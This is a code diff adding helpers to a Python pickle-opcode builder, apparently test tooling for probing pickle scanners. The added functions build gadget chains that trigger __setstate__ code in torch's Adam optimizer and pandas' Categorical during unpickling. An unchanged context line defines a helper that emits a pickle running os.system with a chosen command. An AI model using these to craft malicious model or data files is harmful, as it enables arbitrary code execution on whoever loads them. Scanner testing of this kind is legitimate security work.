@@ -67,6 +67,23 @@ def call(func: bytes, *args: bytes) -> bytes:
     return func + MARK + b"".join(args) + TUPLE + REDUCE
 
 
+def adam_with_group(group: bytes) -> bytes:
+    """torch.optim.Adam.__new__ + BUILD {'defaults': {}, 'state': {}, 'param_groups': [group]}:
+    Adam.__setstate__ reads group["params"] while the pickle loads."""
+    return glob("torch.optim.adam", "Adam") + EMPTY_TUPLE + NEWOBJ + MARK + s("defaults") + EMPTY_DICT \
+        + s("state") + EMPTY_DICT + s("param_groups") + EMPTY_LIST + group + APPEND + b"d" + BUILD
+
+
+def categorical_with_state(state: bytes) -> bytes:
+    """pandas.Categorical.__new__ + BUILD state: its __setstate__ reads state["_categories"]."""
+    return glob("pandas", "Categorical") + EMPTY_TUPLE + NEWOBJ + state + BUILD
+
+
+def defaultdict_of(factory: bytes) -> bytes:
+    """collections.defaultdict(factory)."""
+    return call(glob("collections", "defaultdict"), factory)
+
+
 def system(cmd: str = "id", module: str = "os") -> bytes:
     return call(glob(module, "system"), s(cmd))
 
